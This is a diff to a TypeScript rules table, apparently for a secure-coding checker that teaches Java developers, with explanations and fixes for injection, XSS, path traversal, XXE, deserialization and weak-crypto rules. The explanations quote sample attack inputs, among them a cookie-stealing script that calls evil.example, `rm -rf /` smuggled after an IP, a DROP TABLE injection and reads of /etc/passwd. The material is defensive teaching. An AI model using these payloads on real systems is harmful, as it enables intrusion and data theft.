@@ -38,8 +38,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "sql-injection",
     explanation:
       "The database cannot tell your SQL apart from the text the user typed, so the user can rewrite the query: the value `' OR '1'='1` turns `WHERE name = '…'` into a condition that is always true and returns every row, and `'; DROP TABLE users; --` can destroy data.",
-    fix:
-      "Keep the SQL constant and send user values as bind parameters (`?`), which the driver never interprets as SQL:\n```java\nString sql = \"SELECT * FROM users WHERE name = ?\";\ntry (PreparedStatement ps = connection.prepareStatement(sql)) {\n    ps.setString(1, name);\n    ResultSet rs = ps.executeQuery();\n}\n// Spring: jdbcTemplate.query(\"SELECT * FROM users WHERE name = ?\", mapper, name);\n```\nFor identifiers that cannot be bound (a sort column), map the input onto an allow-list of known column names.",
+    fix: 'Keep the SQL constant and send user values as bind parameters (`?`), which the driver never interprets as SQL:\n```java\nString sql = "SELECT * FROM users WHERE name = ?";\ntry (PreparedStatement ps = connection.prepareStatement(sql)) {\n    ps.setString(1, name);\n    ResultSet rs = ps.executeQuery();\n}\n// Spring: jdbcTemplate.query("SELECT * FROM users WHERE name = ?", mapper, name);\n```\nFor identifiers that cannot be bound (a sort column), map the input onto an allow-list of known column names.',
   },
   "SEC-COMMAND-INJECTION": {
     cwe: 78,
@@ -47,8 +46,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "command-injection",
     explanation:
       "User input becomes part of an operating-system command. With a shell (`sh -c`, `cmd /c`) the input `8.8.8.8; rm -rf /` runs a second command; even without a shell, `Runtime.exec(String)` splits the text on spaces, so the user chooses extra arguments such as `--output=/etc/passwd`.",
-    fix:
-      "Avoid the shell, use a fixed program with separate arguments, and validate the user part against a strict pattern (or better, use a Java API instead of a process):\n```java\nif (!host.matches(\"[A-Za-z0-9.-]{1,253}\")) {\n    throw new IllegalArgumentException(\"invalid host\");\n}\nProcess p = new ProcessBuilder(\"ping\", \"-c\", \"1\", \"--\", host).start();\n```",
+    fix: 'Avoid the shell, use a fixed program with separate arguments, and validate the user part against a strict pattern (or better, use a Java API instead of a process):\n```java\nif (!host.matches("[A-Za-z0-9.-]{1,253}")) {\n    throw new IllegalArgumentException("invalid host");\n}\nProcess p = new ProcessBuilder("ping", "-c", "1", "--", host).start();\n```',
   },
   "SEC-XSS": {
     cwe: 79,
@@ -56,8 +54,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "xss-and-output-encoding",
     explanation:
       "The value is written into an HTML page without encoding, so the browser runs whatever markup it contains: a name like `<script>fetch('https://evil.example/?c='+document.cookie)</script>` steals the session of every user who opens the page (reflected or stored cross-site scripting).",
-    fix:
-      "Encode untrusted data for the HTML context, or let a template engine (Thymeleaf `th:text`) do it, and return JSON rather than hand-built HTML from REST endpoints:\n```java\nimport org.springframework.web.util.HtmlUtils;\n\nout.println(\"<p>Hello \" + HtmlUtils.htmlEscape(name) + \"</p>\");\n// or with the OWASP Java Encoder: Encode.forHtml(name)\n```",
+    fix: 'Encode untrusted data for the HTML context, or let a template engine (Thymeleaf `th:text`) do it, and return JSON rather than hand-built HTML from REST endpoints:\n```java\nimport org.springframework.web.util.HtmlUtils;\n\nout.println("<p>Hello " + HtmlUtils.htmlEscape(name) + "</p>");\n// or with the OWASP Java Encoder: Encode.forHtml(name)\n```',
   },
   "SEC-PATH-TRAVERSAL": {
     cwe: 22,
@@ -65,17 +62,15 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "path-traversal",
     explanation:
       "The user controls part of a file path, so `../../etc/passwd` (or an absolute path) walks out of the intended folder and reads, overwrites or deletes any file the application can access.",
-    fix:
-      "Resolve the name against a fixed base directory, normalise it, and refuse anything that leaves the base (or keep only the file name part):\n```java\nPath base = Paths.get(\"/srv/uploads\").toAbsolutePath().normalize();\nPath file = base.resolve(fileName).normalize();\nif (!file.startsWith(base)) {\n    throw new SecurityException(\"invalid file name\");\n}\nbyte[] data = Files.readAllBytes(file);\n```",
+    fix: 'Resolve the name against a fixed base directory, normalise it, and refuse anything that leaves the base (or keep only the file name part):\n```java\nPath base = Paths.get("/srv/uploads").toAbsolutePath().normalize();\nPath file = base.resolve(fileName).normalize();\nif (!file.startsWith(base)) {\n    throw new SecurityException("invalid file name");\n}\nbyte[] data = Files.readAllBytes(file);\n```',
   },
   "SEC-DESERIALIZATION": {
     cwe: 502,
     severity: "error",
     lesson: L + "deserialization",
     explanation:
-      "Deserializing attacker-controlled bytes lets the attacker choose which classes get instantiated. With common libraries on the classpath, a crafted payload (a \"gadget chain\" such as those produced by ysoserial) runs arbitrary code during `readObject()`, before your code even looks at the result.",
-    fix:
-      "Do not use Java serialization for untrusted data; exchange a plain data format (JSON into a concrete DTO class). If you must, restrict the classes with a filter:\n```java\nObjectInputStream in = new ObjectInputStream(stream);\nin.setObjectInputFilter(ObjectInputFilter.Config.createFilter(\"com.example.dto.*;java.base/*;!*\"));\nOrderDto order = (OrderDto) in.readObject();\n```\nWith Jackson, never enable default typing for `Object`; deserialize into concrete types.",
+      'Deserializing attacker-controlled bytes lets the attacker choose which classes get instantiated. With common libraries on the classpath, a crafted payload (a "gadget chain" such as those produced by ysoserial) runs arbitrary code during `readObject()`, before your code even looks at the result.',
+    fix: 'Do not use Java serialization for untrusted data; exchange a plain data format (JSON into a concrete DTO class). If you must, restrict the classes with a filter:\n```java\nObjectInputStream in = new ObjectInputStream(stream);\nin.setObjectInputFilter(ObjectInputFilter.Config.createFilter("com.example.dto.*;java.base/*;!*"));\nOrderDto order = (OrderDto) in.readObject();\n```\nWith Jackson, never enable default typing for `Object`; deserialize into concrete types.',
   },
   "SEC-HARDCODED-SECRET": {
     cwe: 798,
@@ -83,8 +78,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "secrets-management",
     explanation:
       "A secret written in the source code ends up in Git history, build artifacts and every copy of the repository; anyone who can read the code (or decompile the JAR) can use it, and you cannot rotate it without a new release.",
-    fix:
-      "Read secrets from the environment or a secret manager at runtime, and keep them out of the repository:\n```java\n@Value(\"${app.db.password}\")   // supplied by an environment variable or vault\nprivate String dbPassword;\n\n// plain Java\nString apiKey = System.getenv(\"PAYMENT_API_KEY\");\n```",
+    fix: 'Read secrets from the environment or a secret manager at runtime, and keep them out of the repository:\n```java\n@Value("${app.db.password}")   // supplied by an environment variable or vault\nprivate String dbPassword;\n\n// plain Java\nString apiKey = System.getenv("PAYMENT_API_KEY");\n```',
   },
   "SEC-WEAK-HASH": {
     cwe: 328,
@@ -92,8 +86,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "secure-randomness-and-crypto",
     explanation:
       "MD5 and SHA-1 are broken: collisions can be produced cheaply, and for passwords they are so fast that a GPU tries billions of guesses per second, so leaked hashes are cracked within hours.",
-    fix:
-      "Use SHA-256 (or SHA-3) for integrity checks, and a slow, salted password hash (BCrypt, Argon2, PBKDF2) for passwords:\n```java\nMessageDigest sha256 = MessageDigest.getInstance(\"SHA-256\");\n\n// passwords (Spring Security)\nPasswordEncoder encoder = new BCryptPasswordEncoder();\nString hash = encoder.encode(rawPassword);\n```",
+    fix: 'Use SHA-256 (or SHA-3) for integrity checks, and a slow, salted password hash (BCrypt, Argon2, PBKDF2) for passwords:\n```java\nMessageDigest sha256 = MessageDigest.getInstance("SHA-256");\n\n// passwords (Spring Security)\nPasswordEncoder encoder = new BCryptPasswordEncoder();\nString hash = encoder.encode(rawPassword);\n```',
   },
   "SEC-WEAK-PASSWORD-HASH": {
     cwe: 916,
@@ -101,17 +94,15 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: "/courses/spring-security/password-hashing",
     explanation:
       "Passwords stored in plain text or with a fast, unsalted hash are recovered immediately after a database leak: identical passwords give identical hashes and a GPU tests billions of candidates per second.",
-    fix:
-      "Store passwords with an adaptive, salted algorithm:\n```java\n@Bean\nPasswordEncoder passwordEncoder() {\n    return new BCryptPasswordEncoder();   // or Argon2PasswordEncoder / DelegatingPasswordEncoder\n}\n```",
+    fix: "Store passwords with an adaptive, salted algorithm:\n```java\n@Bean\nPasswordEncoder passwordEncoder() {\n    return new BCryptPasswordEncoder();   // or Argon2PasswordEncoder / DelegatingPasswordEncoder\n}\n```",
   },
   "SEC-WEAK-CIPHER": {
     cwe: 327,
     severity: "warning",
     lesson: L + "secure-randomness-and-crypto",
     explanation:
-      "DES/3DES/RC4/Blowfish are broken or have tiny blocks, and ECB mode (the default when you write just \"AES\") encrypts identical blocks to identical ciphertext, so patterns in the data stay visible and blocks can be swapped without detection.",
-    fix:
-      "Use AES in an authenticated mode (GCM) with a fresh random IV for every message:\n```java\nCipher cipher = Cipher.getInstance(\"AES/GCM/NoPadding\");\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```",
+      'DES/3DES/RC4/Blowfish are broken or have tiny blocks, and ECB mode (the default when you write just "AES") encrypts identical blocks to identical ciphertext, so patterns in the data stay visible and blocks can be swapped without detection.',
+    fix: 'Use AES in an authenticated mode (GCM) with a fresh random IV for every message:\n```java\nCipher cipher = Cipher.getInstance("AES/GCM/NoPadding");\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```',
   },
   "SEC-STATIC-IV": {
     cwe: 329,
@@ -119,8 +110,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "secure-randomness-and-crypto",
     explanation:
       "A constant (or all-zero) IV makes encryption deterministic: the same plaintext always gives the same ciphertext, and with GCM/CTR reusing an IV with the same key leaks the XOR of the plaintexts and breaks authentication.",
-    fix:
-      "Generate a new random IV for each encryption and store it next to the ciphertext:\n```java\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```",
+    fix: "Generate a new random IV for each encryption and store it next to the ciphertext:\n```java\nbyte[] iv = new byte[12];\nnew SecureRandom().nextBytes(iv);\ncipher.init(Cipher.ENCRYPT_MODE, key, new GCMParameterSpec(128, iv));\n```",
   },
   "SEC-INSECURE-RANDOM": {
     cwe: 330,
@@ -128,8 +118,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "secure-randomness-and-crypto",
     explanation:
       "`java.util.Random`, `Math.random()` and `ThreadLocalRandom` are predictable: after observing a few outputs an attacker can compute the seed and predict every future token, password-reset code or session id.",
-    fix:
-      "Use `SecureRandom` for anything an attacker must not guess:\n```java\nprivate static final SecureRandom RANDOM = new SecureRandom();\n\nbyte[] bytes = new byte[32];\nRANDOM.nextBytes(bytes);\nString token = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);\n```",
+    fix: "Use `SecureRandom` for anything an attacker must not guess:\n```java\nprivate static final SecureRandom RANDOM = new SecureRandom();\n\nbyte[] bytes = new byte[32];\nRANDOM.nextBytes(bytes);\nString token = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);\n```",
   },
   "SEC-OPEN-REDIRECT": {
     cwe: 601,
@@ -137,8 +126,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "xss-and-output-encoding",
     explanation:
       "The redirect target comes from the request, so an attacker sends victims a link to your trusted domain such as `/login?next=https://evil.example/login` and your site forwards them to a phishing page.",
-    fix:
-      "Only redirect to relative paths you control, or to a URL chosen from an allow-list:\n```java\nif (next == null || !next.startsWith(\"/\") || next.startsWith(\"//\")) {\n    next = \"/home\";\n}\nreturn \"redirect:\" + next;\n```",
+    fix: 'Only redirect to relative paths you control, or to a URL chosen from an allow-list:\n```java\nif (next == null || !next.startsWith("/") || next.startsWith("//")) {\n    next = "/home";\n}\nreturn "redirect:" + next;\n```',
   },
   "SEC-LDAP-INJECTION": {
     cwe: 90,
@@ -146,8 +134,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "sql-injection",
     explanation:
       "User input is pasted into an LDAP filter, so characters like `*`, `(` and `)` change the query: the user name `*)(uid=*))(|(uid=*` matches every entry and can bypass a login check.",
-    fix:
-      "Escape values for LDAP filters or use a filter builder that does it for you:\n```java\nString filter = \"(uid=\" + LdapEncoder.filterEncode(username) + \")\";\n// Spring LDAP: LdapQueryBuilder.query().where(\"uid\").is(username)\n```",
+    fix: 'Escape values for LDAP filters or use a filter builder that does it for you:\n```java\nString filter = "(uid=" + LdapEncoder.filterEncode(username) + ")";\n// Spring LDAP: LdapQueryBuilder.query().where("uid").is(username)\n```',
   },
   "SEC-XPATH-INJECTION": {
     cwe: 643,
@@ -155,17 +142,15 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "sql-injection",
     explanation:
       "User input becomes part of an XPath expression, so the value `' or '1'='1` changes the query and returns nodes the user must not see (for example every user's password node).",
-    fix:
-      "Keep the XPath expression constant and pass user values as XPath variables:\n```java\nxpath.setXPathVariableResolver(v -> v.getLocalPart().equals(\"name\") ? name : null);\nString result = xpath.evaluate(\"/users/user[@name=$name]/email\", doc);\n```",
+    fix: 'Keep the XPath expression constant and pass user values as XPath variables:\n```java\nxpath.setXPathVariableResolver(v -> v.getLocalPart().equals("name") ? name : null);\nString result = xpath.evaluate("/users/user[@name=$name]/email", doc);\n```',
   },
   "SEC-XXE": {
     cwe: 611,
     severity: "warning",
     lesson: L + "deserialization",
     explanation:
-      "This XML parser is created with its default settings, which process DOCTYPE declarations and external entities. An uploaded document containing `<!ENTITY x SYSTEM \"file:///etc/passwd\">` makes the parser read local files or call internal URLs (XML External Entity attack).",
-    fix:
-      "Disable DOCTYPEs (or at least external entities) on the factory before creating the parser:\n```java\nDocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setFeature(\"http://apache.org/xml/features/disallow-doctype-decl\", true);\ndbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);\ndbf.setXIncludeAware(false);\ndbf.setExpandEntityReferences(false);\n```",
+      'This XML parser is created with its default settings, which process DOCTYPE declarations and external entities. An uploaded document containing `<!ENTITY x SYSTEM "file:///etc/passwd">` makes the parser read local files or call internal URLs (XML External Entity attack).',
+    fix: 'Disable DOCTYPEs (or at least external entities) on the factory before creating the parser:\n```java\nDocumentBuilderFactory dbf = DocumentBuilderFactory.newInstance();\ndbf.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);\ndbf.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);\ndbf.setXIncludeAware(false);\ndbf.setExpandEntityReferences(false);\n```',
   },
   "SEC-TRUST-BOUNDARY": {
     cwe: 501,
@@ -173,8 +158,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "xss-and-output-encoding",
     explanation:
       "Unvalidated request data is stored in the HTTP session, where other code treats it as trusted server-side state. An attacker can plant values (a role, a user id, an HTML snippet) that later checks or pages rely on.",
-    fix:
-      "Validate and convert the value before it crosses into the session, and store only server-derived data there:\n```java\nif (!ALLOWED_THEMES.contains(theme)) {\n    throw new IllegalArgumentException(\"unknown theme\");\n}\nsession.setAttribute(\"theme\", theme);\n```",
+    fix: 'Validate and convert the value before it crosses into the session, and store only server-derived data there:\n```java\nif (!ALLOWED_THEMES.contains(theme)) {\n    throw new IllegalArgumentException("unknown theme");\n}\nsession.setAttribute("theme", theme);\n```',
   },
   "SEC-INSECURE-COOKIE": {
     cwe: 614,
@@ -182,8 +166,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: "/courses/spring-security/csrf",
     explanation:
       "Without `Secure` the browser also sends the cookie over plain HTTP, where anyone on the network can read it; without `HttpOnly` any injected script can read it through `document.cookie`. Session and authentication cookies need both.",
-    fix:
-      "Set both flags (and a SameSite policy) on every cookie that carries state:\n```java\nCookie cookie = new Cookie(\"session\", value);\ncookie.setSecure(true);\ncookie.setHttpOnly(true);\ncookie.setPath(\"/\");\nresponse.addCookie(cookie);\n\n// Spring: ResponseCookie.from(\"session\", value).secure(true).httpOnly(true).sameSite(\"Lax\").build();\n```",
+    fix: 'Set both flags (and a SameSite policy) on every cookie that carries state:\n```java\nCookie cookie = new Cookie("session", value);\ncookie.setSecure(true);\ncookie.setHttpOnly(true);\ncookie.setPath("/");\nresponse.addCookie(cookie);\n\n// Spring: ResponseCookie.from("session", value).secure(true).httpOnly(true).sameSite("Lax").build();\n```',
   },
   "SEC-INSECURE-TLS": {
     cwe: 295,
@@ -191,8 +174,7 @@ export const RULES: Record<RuleId, RuleInfo> = {
     lesson: L + "secure-randomness-and-crypto",
     explanation:
       "This code accepts every certificate or host name, which switches off the protection of HTTPS: anyone between you and the server (public Wi-Fi, a proxy) can impersonate the server and read or change the traffic.",
-    fix:
-      "Use the default trust manager and host-name verification; to trust a private CA, load it into a trust store instead of disabling checks:\n```java\nSSLContext ctx = SSLContext.getDefault();\n// or: KeyStore trustStore = ...; TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());\n// tmf.init(trustStore); ctx.init(null, tmf.getTrustManagers(), new SecureRandom());\n```",
+    fix: "Use the default trust manager and host-name verification; to trust a private CA, load it into a trust store instead of disabling checks:\n```java\nSSLContext ctx = SSLContext.getDefault();\n// or: KeyStore trustStore = ...; TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());\n// tmf.init(trustStore); ctx.init(null, tmf.getTrustManagers(), new SecureRandom());\n```",
   },
 };
 
